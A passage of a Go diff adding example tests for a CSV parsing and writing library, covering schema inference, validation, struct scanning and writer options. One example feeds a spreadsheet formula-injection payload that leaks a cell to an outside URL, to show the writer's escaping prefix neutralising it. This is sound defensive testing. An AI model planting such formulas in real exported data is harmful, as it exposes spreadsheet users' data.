+}
+
+func ExampleDescribe() {
+	in := `username,uid,shell
+rob,1001,/bin/rc
+ken,1002,/bin/sh
+gri,1003,
+dmr,1004,/bin/sh
+`
+	stats, err := csv.Describe(csv.Options{
+		Reader: strings.NewReader(in),
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, st := range stats {
+		fmt.Printf("%s: count=%d distinct=%d len=%d-%d",
+			st.Name, st.Count, st.Distinct, st.MinLen, st.MaxLen)
+		if st.Numeric {
+			fmt.Printf(" min=%g max=%g mean=%g", st.Min, st.Max, st.Mean)
+		}
+		fmt.Println()
+	}
+
+	// Output:
+	// username: count=4 distinct=4 len=3-3
+	// uid: count=4 distinct=4 len=4-4 min=1001 max=1004 mean=1002.5
+	// shell: count=3 distinct=2 len=7-7
+}
+
+func ExampleFrequencies() {
+	in := `username,shell
+rob,/bin/rc
+ken,/bin/sh
+gri,/bin/bash
+dmr,/bin/sh
+bwk,/bin/bash
+rsc,/bin/sh
+`
+	top, err := csv.Frequencies(csv.Options{
+		Reader: strings.NewReader(in),
+	}, "shell", 2)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, vc := range top {
+		fmt.Println(vc.Value, vc.Count)
+	}
+
+	// Output:
+	// /bin/sh 3
+	// /bin/bash 2
+}
+
+func ExampleFrequenciesApprox() {
+	// A skewed column: of every 8 rows, 4 are /bin/sh,
+	// 2 /bin/bash, 1 /bin/zsh, and 1 a shell seen only once.
+	var in strings.Builder
+	in.WriteString("username,shell\n")
+	for i := range 1000 {
+		for _, shell := range []string{
+			"/bin/sh", "/bin/bash", "/bin/sh", "/bin/zsh",
+			"/bin/sh", "/bin/bash", "/bin/sh", fmt.Sprintf("/opt/shell%d", i),
+		} {
+			fmt.Fprintf(&in, "user%d,%s\n", i, shell)
+		}
+	}
+	exact, err := csv.Frequencies(csv.Options{
+		Reader: strings.NewReader(in.String()),
+	}, "shell", 3)
+	if err != nil {
+		log.Fatal(err)
+	}
+	// Only 10 of the 1003 distinct shells are tracked at a time.
+	approx, err := csv.FrequenciesApprox(csv.Options{
+		Reader: strings.NewReader(in.String()),
+	}, "shell", 3, 10)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for i := range exact {
+		fmt.Println(exact[i].Value, exact[i].Count, approx[i].Value, approx[i].Count)
+	}
+
+	// Output:
+	// /bin/sh 4000 /bin/sh 4000
+	// /bin/bash 2000 /bin/bash 2000
+	// /bin/zsh 1000 /bin/zsh 1000
+}
+
+func ExampleInferSchema() {
+	in := `username,uid,admin,joined,score
+rob,1001,true,2009-11-10,9.5
+ken,1002,false,1969-01-01,
+gri,1003,false,2009-11-10,10
+`
+	s, err := csv.InferSchema(csv.Options{
+		Reader: strings.NewReader(in),
+	}, 100)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, c := range s.Columns {
+		fmt.Println(c.Name, c.Type, c.Layout, c.Nullable, c.Examples)
+	}
+
+	// Output:
+	// username string  false [rob ken gri]
+	// uid int  false [1001 1002 1003]
+	// admin bool  false [true false]
+	// joined time 2006-01-02 false [2009-11-10 1969-01-01]
+	// score float  true [9.5 10]
+}
+
+func ExampleValidate() {
+	in := `username,uid,shell
+rob,1001,/bin/rc
+ken,,/bin/sh
+gri,1003x,/bin/csh
+`
+	s := csv.Schema{Columns: []csv.ColumnSchema{
+		{Name: "username", Pattern: `[a-z]+`},
+		{Name: "uid", Type: csv.TypeInt},
+		{Name: "shell", Enum: []string{"/bin/rc", "/bin/sh"}},
+		{Name: "home"},
+	}}
+	violations, err := csv.Validate(csv.Options{
+		Reader: strings.NewReader(in),
+	}, s)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, v := range violations {
+		fmt.Println(v)
+	}
+
+	// Output:
+	// header, column "home": csv: missing column
+	// line 3, column "uid": csv: empty value
+	// line 4, column "uid": csv: invalid value: not int
+	// line 4, column "shell": csv: invalid value: not an allowed value
+}
+
+func ExampleSchema_TableSchema() {
+	s := csv.Schema{Columns: []csv.ColumnSchema{
+		{Name: "username", Pattern: `[a-z]+`},
+		{Name: "uid", Type: csv.TypeInt},
+		{Name: "joined", Type: csv.TypeTime, Layout: "02/01/2006", Nullable: true},
+	}}
+	b, err := s.TableSchema()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(string(b))
+
+	// Output:
+	// {"fields":[{"name":"username","type":"string","constraints":{"required":true,"pattern":"[a-z]+"}},{"name":"uid","type":"integer","constraints":{"required":true}},{"name":"joined","type":"date","format":"%d/%m/%Y"}],"missingValues":[""]}
+}
+
+func ExampleSchema_JSONSchema() {
+	s := csv.Schema{Columns: []csv.ColumnSchema{
+		{Name: "uid", Type: csv.TypeInt},
+		{Name: "shell", Nullable: true, Enum: []string{"/bin/rc", "/bin/sh"}},
+	}}
+	b, err := s.JSONSchema()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(string(b))
+
+	// Output:
+	// {"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object","properties":{"shell":{"type":["string","null"],"enum":["/bin/rc","/bin/sh"]},"uid":{"type":"integer"}},"required":["uid"]}
+}
+
+func ExampleGenerateStruct() {
+	in := `user_id,First Name,e-mail,2fa
+1001,Rob,rob@example.com,true
+`
+	src, err := csv.GenerateStruct(csv.Options{
+		Reader: strings.NewReader(in),
+	}, "User")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(string(src))
+
+	// Output:
+	// type User struct {
+	//	UserID    string `csv:"user_id"`
+	//	FirstName string `csv:"First Name"`
+	//	EMail     string `csv:"e-mail"`
+	//	F2fa      string `csv:"2fa"`
+	// }
+}
+
+func ExampleGenerateStruct_badFieldname() {
+	in := `sku,"price, USD",名前
+A1,9.99,ペン
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	_, err := csv.GenerateStruct(csvopt, "Product")
+	fmt.Println(err)
+
+	// A comma cannot be written in a tag, so rename the column.
+	// A field for a name without an uppercase first letter,
+	// such as 名前, is prefixed with F so that it is exported.
+	csvopt.Reader = strings.NewReader(in)
+	csvopt.Rename = map[string]string{"price, USD": "price_usd"}
+	src, err := csv.GenerateStruct(csvopt, "Product")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(string(src))
+
+	// Output:
+	// csv: fieldname cannot be used in a struct tag: "price, USD"
+	// type Product struct {
+	//	Sku      string `csv:"sku"`
+	//	PriceUsd string `csv:"price_usd"`
+	//	F名前      string `csv:"名前"`
+	// }
+}
+
+func ExampleSchema_GenerateStruct() {
+	in := `user_id,name,joined,karma,admin
+1001,Rob,2009-11-10,42.5,true
+1002,Ken,,7,false
+`
+	schema, err := csv.InferSchema(csv.Options{
+		Reader: strings.NewReader(in),
+	}, 100)
+	if err != nil {
+		log.Fatal(err)
+	}
+	src, err := schema.GenerateStruct("User")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(string(src))
+
+	// Output:
+	// type User struct {
+	//	UserID int64      `csv:"user_id"`
+	//	Name   string     `csv:"name"`
+	//	Joined *time.Time `csv:"joined,layout=2006-01-02"`
+	//	Karma  float64    `csv:"karma"`
+	//	Admin  bool       `csv:"admin"`
+	// }
+}
+
+func ExampleFilter() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	rows := csv.Filter(csvopt.Rows(), func(row *csv.Row) bool {
+		return strings.HasPrefix(row.Field("first_name"), "Rob")
+	})
+	rows = csv.Drop(rows, 1)
+	rows = csv.Take(rows, 1)
+	for row, err := range rows {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// gri
+}
+
+func ExampleMapRows() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	header := []string{"username", "name"}
+	rows := csv.MapRows(csvopt.Rows(), func(row *csv.Row) (*csv.Row, error) {
+		if row.Field("username") == "" {
+			return nil, fmt.Errorf("no username on line %d", row.Line())
+		}
+		return csv.NewRow(header, []string{
+			row.Field("username"),
+			row.Field("first_name") + " " + row.Field("last_name"),
+		}), nil
+	})
+	for row, err := range rows {
+		if err != nil {
+			// The sequence stops after an error from fn.
+			fmt.Println(err)
+			break
+		}
+		fmt.Println(row.Field("username"), "is", row.Field("name"))
+	}
+
+	// Output:
+	// rob is Rob Pike
+	// no username on line 3
+}
+
+func Example() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+
+	var user struct {
+		Username string `csv:"username"`
+		First    string `csv:"first_name"`
+		Last     string `csv:"last_name"`
+	}
+	for err := range csv.Scan(csvopt, &user) {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%q %s, %s\n", user.Username, user.Last, user.First)
+	}
+
+	// Output:
+	// "rob" Pike, Rob
+	// "ken" Thompson, Ken
+	// "gri" Griesemer, Robert
+}
+
+func ExampleOptions_nullValues() {
+	in := `username,uid,quota,admin
+rob,1001,NULL,true
+ken,1002,50,N/A
+`
+	csvopt := csv.Options{
+		Reader:     strings.NewReader(in),
+		NullValues: []string{"NULL", "N/A"},
+	}
+	type user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+		Quota    *int   `csv:"quota"`
+		Admin    bool   `csv:"admin"`
+	}
+	users, err := csv.ScanAll[user](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, u := range users {
+		if u.Quota == nil {
+			fmt.Println(u.Username, u.UID, "unlimited", u.Admin)
+		} else {
+			fmt.Println(u.Username, u.UID, *u.Quota, u.Admin)
+		}
+	}
+
+	// Output:
+	// rob 1001 unlimited true
+	// ken 1002 50 false
+}
+
+func ExampleOptions_trueValues() {
+	in := `username,admin,active
+rob,Y,yes
+ken,N,no
+`
+	csvopt := csv.Options{
+		Reader:      strings.NewReader(in),
+		TrueValues:  []string{"Y"},
+		FalseValues: []string{"N"},
+	}
+	type user struct {
+		Username string `csv:"username"`
+		Admin    bool   `csv:"admin"`
+		Active   bool   `csv:"active,true=yes|on,false=no|off"`
+	}
+	users, err := csv.ScanAll[user](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(users)
+
+	// Output:
+	// [{rob true true} {ken false false}]
+}
+
+func ExampleOptions_numberFormat() {
+	in := `product;price;units
+Stroopwafels;1.234,56;1.000
+Hagelslag;2,50;12
+`
+	csvopt := csv.Options{
+		Reader:       strings.NewReader(in),
+		Comma:        ';',
+		NumberFormat: csv.NumberFormatEU,
+	}
+	type sale struct {
+		Product string  `csv:"product"`
+		Price   float64 `csv:"price"`
+		Units   int     `csv:"units"`
+	}
+	sales, err := csv.ScanAll[sale](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(sales)
+
+	// Output:
+	// [{Stroopwafels 1234.56 1000} {Hagelslag 2.5 12}]
+}
+
+func ExampleNumberFormat() {
+	in := `item,price,discount
+Widget,"$1,234.50",15%
+Gadget,$99.99,5.5%
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		NumberFormat: csv.NumberFormat{
+			Thousands: ',',
+			Currency:  true,
+			Percent:   csv.PercentFraction,
+		},
+	}
+	type line struct {
+		Item     string  `csv:"item"`
+		Price    float64 `csv:"price"`
+		Discount float64 `csv:"discount"`
+	}
+	lines, err := csv.ScanAll[line](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, l := range lines {
+		fmt.Printf("%s: %.2f\n", l.Item, l.Price*(1-l.Discount))
+	}
+
+	// Output:
+	// Widget: 1049.33
+	// Gadget: 94.49
+}
+
+func ExampleRow_Scan_bigNumbers() {
+	in := `account,balance,rate
+savings,"12,345,678,901,234,567.89",4.125%
+checking,0.10,0.5%
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		NumberFormat: csv.NumberFormat{
+			Thousands: ',',
+			Percent:   csv.PercentFraction,
+		},
+	}
+	type account struct {
+		Name    string     `csv:"account"`
+		Balance *big.Rat   `csv:"balance"`
+		Rate    *big.Float `csv:"rate"`
+	}
+	accounts, err := csv.ScanAll[account](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, a := range accounts {
+		fmt.Println(a.Name, a.Balance.FloatString(2), a.Rate.Text('f', 5))
+	}
+
+	// Output:
+	// savings 12345678901234567.89 0.04125
+	// checking 0.10 0.00500
+}
+
+// cents is a fixed-point number of hundredths.
+type cents int64
+
+func (c *cents) UnmarshalDecimal(s string) error {
+	r, ok := new(big.Rat).SetString(s)
+	if !ok {
+		return fmt.Errorf("invalid amount %q", s)
+	}
+	r.Mul(r, big.NewRat(100, 1))
+	if !r.IsInt() || !r.Num().IsInt64() {
+		return fmt.Errorf("amount %q is not in whole cents", s)
+	}
+	*c = cents(r.Num().Int64())
+	return nil
+}
+
+func (c cents) MarshalCSV() (string, error) {
+	return big.NewRat(int64(c), 100).FloatString(2), nil
+}
+
+func ExampleDecimalUnmarshaler() {
+	in := `item;price
+Kaffee;"3,50 €"
+Kuchen;"12,05 €"
+`
+	csvopt := csv.Options{
+		Reader:       strings.NewReader(in),
+		Comma:        ';',
+		NumberFormat: csv.NumberFormat{Decimal: ',', Thousands: '.', Currency: true},
+	}
+	type line struct {
+		Item  string `csv:"item"`
+		Price cents  `csv:"price"`
+	}
+	lines, err := csv.ScanAll[line](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	var total cents
+	for _, l := range lines {
+		total += l.Price
+	}
+	fmt.Println(len(lines), "items:", total, "cents")
+
+	// Output:
+	// 2 items: 1555 cents
+}
+
+func ExampleMarshaler() {
+	type line struct {
+		Item     string `csv:"item"`
+		Price    cents  `csv:"price"`
+		Discount cents  `csv:"discount,omitempty"`
+		Qty      int    `csv:"qty,omitempty"`
+	}
+	w := csv.Writer{Writer: os.Stdout}
+	for _, l := range []line{
+		{"widget", 1250, 0, 2},
+		{"gadget", 305, 50, 0},
+	} {
+		if err := w.WriteStruct(l); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// item,price,discount,qty
+	// widget,12.50,,2
+	// gadget,3.05,0.50,
+}
+
+func ExampleRow_Scan_json() {
+	in := `id,tags,metadata
+1,"[""new"",""sale""]","{""color"":""red"",""size"":""M""}"
+2,[],
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type product struct {
+		ID       int               `csv:"id"`
+		Tags     []string          `csv:"tags,json"`
+		Metadata map[string]string `csv:"metadata,json"`
+	}
+	products, err := csv.ScanAll[product](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, p := range products {
+		fmt.Println(p.ID, len(p.Tags), p.Tags, p.Metadata)
+	}
+
+	// Output:
+	// 1 2 [new sale] map[color:red size:M]
+	// 2 0 [] map[]
+}
+
+func ExampleRow_Scan_bytes() {
+	in := `name,thumbnail,sha256
+dot.gif,R0lGODlhAQABAAAAACw=,e3b0c44298fc1c14
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type image struct {
+		Name      string `csv:"name"`
+		Thumbnail []byte `csv:"thumbnail"`
+		Checksum  []byte `csv:"sha256,encoding=hex"`
+	}
+	images, err := csv.ScanAll[image](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, img := range images {
+		fmt.Printf("%s %q %x\n", img.Name, img.Thumbnail[:6], img.Checksum)
+	}
+
+	// Output:
+	// dot.gif "GIF89a" e3b0c44298fc1c14
+}
+
+func ExampleRow_Scan_lists() {
+	in := `name,colors,sizes
+shirt,red|green|blue,"38, 40, 42"
+socks,black,
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type product struct {
+		Name   string   `csv:"name"`
+		Colors []string `csv:"colors,sep=|"`
+		Sizes  []int    `csv:"sizes,sep=comma"`
+	}
+	products, err := csv.ScanAll[product](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, p := range products {
+		fmt.Println(p.Name, len(p.Colors), p.Colors, p.Sizes)
+	}
+
+	// Output:
+	// shirt 3 [red green blue] [38 40 42]
+	// socks 1 [black] []
+}
+
+func ExampleRow_Scan_keyValues() {
+	in := `host,labels,limits
+web1,env=prod;team=web,cpu:2|memory:512
+db1,env=prod,
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type host struct {
+		Name   string            `csv:"host"`
+		Labels map[string]string `csv:"labels,kv=;"`
+		Limits map[string]int    `csv:"limits,kv=|,kvsep=:"`
+	}
+	hosts, err := csv.ScanAll[host](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, h := range hosts {
+		fmt.Println(h.Name, h.Labels, h.Limits)
+	}
+
+	// Output:
+	// web1 map[env:prod team:web] map[cpu:2 memory:512]
+	// db1 map[env:prod] map[]
+}
+
+func ExampleRow_Scan_remain() {
+	in := `id,name,utm_source,utm_campaign
+1,rob,newsletter,spring
+2,ken,,
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type visit struct {
+		ID    int               `csv:"id"`
+		Name  string            `csv:"name"`
+		Extra map[string]string `csv:",remain"`
+	}
+	visits, err := csv.ScanAll[visit](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, v := range visits {
+		fmt.Println(v.ID, v.Name, v.Extra)
+	}
+
+	// The remain field is written back to its columns.
+	w := csv.Writer{Writer: os.Stdout}
+	for _, v := range visits {
+		if err := w.WriteStruct(v); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// 1 rob map[utm_campaign:spring utm_source:newsletter]
+	// 2 ken map[utm_campaign: utm_source:]
+	// id,name,utm_campaign,utm_source
+	// 1,rob,spring,newsletter
+	// 2,ken,,
+}
+
+func ExampleRow_Scan_repeatedColumns() {
+	in := `respondent,q_1,q_2,q_3,note,note
+ann,5,4,3,late,
+bob,2,,1,,retake
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type response struct {
+		Respondent string   `csv:"respondent"`
+		Answers    []*int   `csv:"q_*"`
+		Notes      []string `csv:"note"`
+	}
+	responses, err := csv.ScanAll[response](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, r := range responses {
+		fmt.Print(r.Respondent)
+		for _, a := range r.Answers {
+			if a == nil {
+				fmt.Print(" -")
+			} else {
+				fmt.Print(" ", *a)
+			}
+		}
+		fmt.Printf(" %q\n", r.Notes)
+	}
+
+	// Output:
+	// ann 5 4 3 ["late" ""]
+	// bob 2 - 1 ["" "retake"]
+}
+
+func ExampleWriter_WriteMap() {
+	in := `username,uid
+rob,1001
+ken,1002
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	rows = append(rows, map[string]string{"username": "gri"})
+	rows = append(rows, map[string]string{"username": "r", "shell": "rc"})
+
+	w := csv.Writer{
+		Writer:         os.Stdout,
+		FieldNames:     []string{"uid", "username"},
+		RejectUnlisted: true,
+	}
+	var errs []error
+	for _, row := range rows {
+		if err := w.WriteMap(row); err != nil {
+			errs = append(errs, err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(errs)
+
+	// Output:
+	// uid,username
+	// 1001,rob
+	// 1002,ken
+	// ,gri
+	// [csv: field not in FieldNames: "shell"]
+}
+
+func ExampleWriter_WriteAll() {
+	in := `username,uid,shell
+rob,1001,/bin/rc
+ken,12,/bin/sh
+gri,1003,/bin/bash
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	w := csv.Writer{
+		Writer:     os.Stdout,
+		FieldNames: []string{"uid", "username"},
+	}
+	rows := csv.Filter(csvopt.Rows(), func(row *csv.Row) bool {
+		return row.Field("shell") != "/bin/sh"
+	})
+	if err := w.WriteAll(rows); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// uid,username
+	// 1001,rob
+	// 1003,gri
+}
+
+func ExampleWriteAllStructs() {
+	type square struct {
+		N       int `csv:"n"`
+		Squared int `csv:"n²"`
+	}
+	squares := func(yield func(square) bool) {
+		for n := 1; n <= 3; n++ {
+			if !yield(square{n, n * n}) {
+				return
+			}
+		}
+	}
+	w := csv.Writer{Writer: os.Stdout}
+	if err := csv.WriteAllStructs(&w, squares); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// n,n²
+	// 1,1
+	// 2,4
+	// 3,9
+}
+
+func ExampleWriter_rename() {
+	in := `username,uid,shell
+rob,1001,/bin/rc
+ken,12,/bin/sh
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	w := csv.Writer{
+		Writer:     os.Stdout,
+		FieldNames: []string{"uid", "username"},
+		Rename:     map[string]string{"uid": "User ID", "username": "Login"},
+	}
+	if err := w.WriteAll(csvopt.Rows()); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// User ID,Login
+	// 1001,rob
+	// 12,ken
+}
+
+func ExampleAppendFile() {
+	f, err := os.CreateTemp("", "*.csv")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.Remove(f.Name())
+	f.WriteString(`username,uid
+rob,1001`)
+	f.Close()
+
+	w, err := csv.AppendFile(f.Name(), csv.Options{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := w.WriteMap(map[string]string{"uid": "1002", "username": "ken"}); err != nil {
+		log.Fatal(err)
+	}
+	if err := w.WriteMap(map[string]string{"username": "gri", "shell": "bash"}); err != nil {
+		fmt.Println(err)
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	b, err := os.ReadFile(f.Name())
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(string(b))
+
+	// Output:
+	// csv: field not in FieldNames: "shell"
+	// username,uid
+	// rob,1001
+	// ken,1002
+}
+
+func ExampleAppendFile_struct() {
+	f, err := os.CreateTemp("", "*.csv")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.Remove(f.Name())
+	f.WriteString("username,uid\nrob,1001\n")
+	f.Close()
+
+	type user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+	}
+	type account struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+		Shell    string `csv:"shell"`
+	}
+	w, err := csv.AppendFile(f.Name(), csv.Options{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := w.WriteStruct(user{"ken", 1002}); err != nil {
+		log.Fatal(err)
+	}
+	if err := w.WriteStruct(account{"gri", 1003, "bash"}); err != nil {
+		fmt.Println(err)
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	b, err := os.ReadFile(f.Name())
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(string(b))
+
+	// Output:
+	// csv: field not in FieldNames: "shell"
+	// username,uid
+	// rob,1001
+	// ken,1002
+}
+
+func ExampleAppendFile_sepHint() {
+	f, err := os.CreateTemp("", "*.csv")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.Remove(f.Name())
+	f.WriteString("sep=;\nname;note\nrob;'a; b'\n")
+	f.Close()
+
+	// The delimiter of the file is kept, though not given in Options.
+	w, err := csv.AppendFile(f.Name(), csv.Options{Quote: '\''})
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := w.WriteRecord([]string{"ken", "it's; ok"}); err != nil {
+		log.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	b, err := os.ReadFile(f.Name())
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(string(b))
+
+	// Output:
+	// sep=;
+	// name;note
+	// rob;'a; b'
+	// ken;'it''s; ok'
+}
+
+func ExampleWriter_quoting() {
+	w := csv.Writer{
+		Writer:        os.Stdout,
+		FieldNames:    []string{"id", "name", "note"},
+		Quoting:       csv.QuoteAll,
+		ColumnQuoting: map[string]csv.QuoteMode{"id": csv.QuoteNever},
+	}
+	for _, record := range [][]string{
+		{"1", "Rob", ""},
+		{"2", "Ken", `said "hi"`},
+		{"3,4", "Robert", ""},
+	} {
+		if err := w.WriteRecord(record); err != nil {
+			fmt.Println(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// csv: field needs quotes: "3,4"
+	// id,"name","note"
+	// 1,"Rob",""
+	// 2,"Ken","said ""hi"""
+}
+
+func ExampleWriter_useCRLF() {
+	var buf strings.Builder
+	w := csv.Writer{
+		Writer:     &buf,
+		FieldNames: []string{"id", "note"},
+		UseCRLF:    true,
+	}
+	if err := w.WriteRecord([]string{"1", "two\nlines"}); err != nil {
+		log.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("%q\n", buf.String())
+
+	// Output:
+	// "id,note\r\n1,\"two\r\nlines\"\r\n"
+}
+
+func ExampleWriter_sepHint() {
+	var buf bytes.Buffer
+	w := csv.Writer{
+		Writer:        &buf,
+		Comma:         ';',
+		FieldNames:    []string{"item", "price"},
+		ByteOrderMark: true,
+		SepHint:       true,
+	}
+	if err := w.WriteRecord([]string{"Kaffee", "3,50"}); err != nil {
+		log.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("%q\n", buf.String())
+
+	// The hint sets the delimiter when reading.
+	rows, err := (&csv.Options{Reader: &buf}).ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	// Output:
+	// "\ufeffsep=;\nitem;price\nKaffee;3,50\n"
+	// [map[item:Kaffee price:3,50]]
+}
+
+func ExampleWriter_formulaPrefix() {
+	w := csv.Writer{
+		Writer:        os.Stdout,
+		FieldNames:    []string{"name", "balance"},
+		FormulaPrefix: "'",
+	}
+	for _, record := range [][]string{
+		{"Rob", "-12.50"},
+		{`=HYPERLINK("http://example.com/?leak="&A1)`, "0"},
+		{"@SUM(A1:A9)", "+1-1"},
+	} {
+		if err := w.WriteRecord(record); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// name,balance
+	// Rob,-12.50
+	// "'=HYPERLINK(""http://example.com/?leak=""&A1)",0
+	// '@SUM(A1:A9),'+1-1
+}
+
+func ExampleWriter_formatters() {
+	type payment struct {
+		ID     int       `csv:"id,format=%05d"`
+		Amount float64   `csv:"amount"`
+		Paid   time.Time `csv:"paid"`
+		Late   bool      `csv:"late"`
+	}
+	w := csv.Writer{
+		Writer: os.Stdout,
+		Formatters: map[string]func(any) string{
+			"amount": func(v any) string {
+				return fmt.Sprintf("%.2f", v)
+			},
+			"paid": func(v any) string {
+				return v.(time.Time).Format(time.DateOnly)
+			},
+			"late": func(v any) string {
+				if v.(bool) {
+					return "Y"
+				}
+				return "N"
+			},
+		},
+	}
+	payments := []payment{
+		{1, 12.5, time.Date(2024, 5, 1, 9, 30, 0, 0, time.UTC), false},
+		{2, 100, time.Date(2024, 6, 3, 17, 0, 0, 0, time.UTC), true},
+	}
+	if err := csv.WriteAllStructs(&w, slices.Values(payments)); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// id,amount,paid,late
+	// 00001,12.50,2024-05-01,N
+	// 00002,100.00,2024-06-03,Y
+}
+
+// chunkPrinter prints each write to it on its own line.
+type chunkPrinter struct{}
+
+func (chunkPrinter) Write(p []byte) (int, error) {
+	fmt.Printf("%q\n", p)
+	return len(p), nil
+}
+
+func ExampleWriter_Flush() {
+	w := csv.Writer{
+		Writer:     chunkPrinter{},
+		FieldNames: []string{"n"},
+		FlushRows:  2,
+	}
+	for n := range 5 {
+		if err := w.WriteRecord([]string{strconv.Itoa(n)}); err != nil {
+			log.Fatal(err)
+		}
+	}
+	fmt.Println("flushing")
+	if err := w.Flush(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// "n\n0\n1\n"
+	// "2\n3\n"
+	// flushing
+	// "4\n"
+}
+
+func ExampleWriteFileAtomic() {
+	dir, err := os.MkdirTemp("", "")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	path := filepath.Join(dir, "users.csv")
+
+	in := `username,uid
+rob,1001
+ken,1002
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	err = csv.WriteFileAtomic(path, csv.Writer{UseCRLF: true}, csvopt.Rows())
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	b, err := os.ReadFile(path)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("%q\n", b)
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(len(entries), "file")
+
+	// Output:
+	// "username,uid\r\nrob,1001\r\nken,1002\r\n"
+	// 1 file
+}
+
+func ExampleWriter_WriteComment() {
+	w := csv.Writer{
+		Writer:     os.Stdout,
+		Comment:    '#',
+		Prologue:   []string{" Account export", " Generated 2024-01-02"},
+		FieldNames: []string{"username", "uid"},
+	}
+	w.WriteMap(map[string]string{"username": "rob", "uid": "1"})
+	w.WriteComment(" ken is on leave\n and back in March")
+	w.WriteMap(map[string]string{"username": "ken", "uid": "2"})
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// # Account export
+	// # Generated 2024-01-02
+	// username,uid
